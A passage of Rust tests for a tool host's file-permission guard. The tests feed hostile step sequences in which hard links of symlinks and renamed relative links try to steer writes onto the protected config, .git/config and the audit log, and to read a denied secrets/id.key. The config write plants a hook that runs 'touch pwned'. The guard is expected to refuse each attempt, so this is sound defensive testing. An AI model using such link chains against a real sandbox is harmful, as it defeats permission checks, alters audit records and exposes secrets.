    steps.lines().map(str::to_string).collect()
}

/// A hard link of a symlink is a new symlink in another directory, whose relative text now
/// starts there: after a listing taught the guard that directory held no link, the chain
/// below replaced the config (and the next start ran its hook), rewrote `.git/config` and the
/// audit log, and read a denied file's size and content. Mutations are judged on the path the
/// kernel uses now, and a new name forgets what listings taught.
#[tokio::test(flavor = "multi_thread")]
async fn a_hard_linked_link_steers_no_write_and_reveals_no_denied_file() {
    let key = format!("KEY {SECRET}\n");
    let cfg = "[permissions]\ndeny = [\"Read(secrets/**)\"]\n";
    let (_ws, ws_path) = planted(
        &[("toolhost.toml", cfg), (".git/config", "[core]\n"), ("audit.jsonl", "{}\n"), ("secrets/id.key", &key)],
        &[],
    );
    let rt = runtime(&ws_path, cfg, |b| {
        b.protect(ws_path.join("toolhost.toml"), "the config file in use")
            .protect(ws_path.join("audit.jsonl"), "the audit log")
    })
    .await;
    let payload = "[[hooks.pre_tool_use]]\ncommand = \"touch pwned\"\n";
    for (i, victim) in ["toolhost.toml", ".git/config", "audit.jsonl"].into_iter().enumerate() {
        let (a, d) = (format!("a{i}"), format!("D{i}"));
        let out = ok(&hostile(
            &rt,
            json!({"op": "steps", "steps": [
                {"op": "write", "path": format!("p{i}"), "content": payload},
                {"op": "mkdir", "path": a},
                {"op": "symlink", "path": format!("{a}/s"), "target": ".."},
                {"op": "mkdir", "path": d},
                {"op": "list", "path": d},
                {"op": "hardlink", "path": format!("{d}/sub"), "target": format!("{a}/s")},
                {"op": "rename", "path": format!("p{i}"), "target": format!("{d}/sub/{victim}")},
            ]}),
        )
        .await);
        let lines = step_lines(&out);
        assert_eq!(lines.len(), 7, "{out}");
        assert!(lines[5].starts_with("ok"), "the link itself may be made: {out}");
        assert!(lines[6].starts_with("error: rename") && lines[6].ends_with(": access"), "{victim}: {out}");
        assert!(out.contains(&ws_path.join(victim).display().to_string()), "the note names {victim}: {out}");
    }
    assert_eq!(fs::read_to_string(ws_path.join("toolhost.toml")).unwrap(), cfg);
    assert_eq!(fs::read_to_string(ws_path.join(".git/config")).unwrap(), "[core]\n");
    assert_eq!(fs::read_to_string(ws_path.join("audit.jsonl")).unwrap(), "{}\n");

    // The same link, to the denied directory: neither its size nor its content comes back.
    let out = ok(&hostile(
        &rt,
        json!({"op": "steps", "steps": [
            {"op": "mkdir", "path": "b"},
            {"op": "symlink", "path": "b/s", "target": "../secrets"},
            {"op": "mkdir", "path": "E"},
            {"op": "list", "path": "E"},
            {"op": "hardlink", "path": "E/s", "target": "b/s"},
            {"op": "stat", "path": "E/s/id.key"},
            {"op": "read", "path": "E/s/id.key"},
            {"op": "list", "path": "E/s"},
        ]}),
    )
    .await);
    let lines = step_lines(&out);
    assert!(!out.contains(SECRET), "{out}");
    assert_eq!(lines[5], "error: stat E/s/id.key: access", "{out}");
    assert_eq!(lines[6], "error: read E/s/id.key: access", "{out}");
    assert!(!lines[7].contains("id.key"), "{out}");
}

/// A relative link keeps its text when moved, so where it leads changes: moved alone or
/// inside a directory, it is judged again at its new place, as if made there.
#[tokio::test(flavor = "multi_thread")]
async fn a_relative_link_moved_elsewhere_is_judged_where_it_lands() {
    let (_ws, ws_path) = planted(&[("toolhost.toml", "")], &[]);
    let rt = runtime(&ws_path, "", |b| b.protect(ws_path.join("toolhost.toml"), "the config file in use")).await;
    let out = ok(&hostile(
        &rt,
        json!({"op": "steps", "steps": [
            {"op": "mkdir", "path": "x"},
            {"op": "mkdir", "path": "x/y"},
            // Leads to x/toolhost.toml where it is made: fine.
            {"op": "symlink", "path": "x/y/l", "target": "../toolhost.toml"},
            // Moved up one level, it would lead to the config.
            {"op": "rename", "path": "x/y/l", "target": "x/l"},
            // So would its directory, moved up with it inside.
            {"op": "rename", "path": "x/y", "target": "z"},
            // Moves that keep its meaning are fine.
            {"op": "rename", "path": "x/y/l", "target": "x/y/l2"},
            {"op": "mkdir", "path": "w"},
            {"op": "rename", "path": "x", "target": "w/x"},
        ]}),
    )
    .await);
    let lines = step_lines(&out);
    assert_eq!(lines.len(), 8, "{out}");
    assert_eq!(lines[3], "error: rename x/y/l -> x/l: access", "{out}");
    assert_eq!(lines[4], "error: rename x/y -> z: access", "{out}");
    assert!(lines[5].starts_with("ok") && lines[7].starts_with("ok"), "{out}");
    assert!(out.contains("toolhost.toml is protected"), "{out}");
    assert!(!ws_path.join("x/l").exists() && !ws_path.join("z").exists());
    assert_eq!(fs::read_link(ws_path.join("w/x/y/l2")).unwrap(), Path::new("../toolhost.toml"));
}
